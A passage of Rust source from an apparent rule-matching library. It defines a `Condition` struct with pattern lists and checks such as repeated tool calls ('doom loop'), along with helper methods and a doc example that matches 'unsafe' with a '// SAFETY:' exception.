    pub unknown_name: Option<UnknownName>,
    /// The same tool call is made over and over.
    pub doom_loop: Option<DoomLoop>,
    /// A structural search in code (feature `ast`).
    pub ast: Option<Ast>,
}

impl Condition {
    /// Creates a condition that any of the patterns meets.
    #[must_use]
    pub fn any(patterns: Vec<Pattern>) -> Condition {
        Condition {
            any: patterns,
            ..Condition::default()
        }
    }

    /// Returns true if a single short text can meet it. Loops and limits need more text than an example has.
    pub(crate) fn is_testable_by_example(&self) -> bool {
        self.repetition.is_none() && self.limit.is_none() && self.doom_loop.is_none()
    }

    /// Returns true if a pattern is a command.
    pub(crate) fn has_commands(&self) -> bool {
        self.patterns()
            .any(|pattern| pattern.kind == PatternKind::Command)
    }

    /// Returns every pattern, in the order `any`, `all`, `sequence`, `none`.
    ///
    /// # Example: a pattern and its exception
    /// ```
    /// use ttsr::rule::Condition;
    /// use ttsr::Pattern;
    /// let mut condition = Condition::any(vec![Pattern::literal("unsafe")]);
    /// condition.none = vec![Pattern::literal("// SAFETY:")];
    /// let texts: Vec<&str> = condition.patterns().map(|pattern| &*pattern.text).collect();
    /// assert_eq!(texts, ["unsafe", "// SAFETY:"]);
    /// ```
    pub fn patterns(&self) -> impl Iterator<Item = &Pattern> {
        self.any
            .iter()
            .chain(&self.all)
            .chain(&self.sequence)
            .chain(&self.none)
    }
}
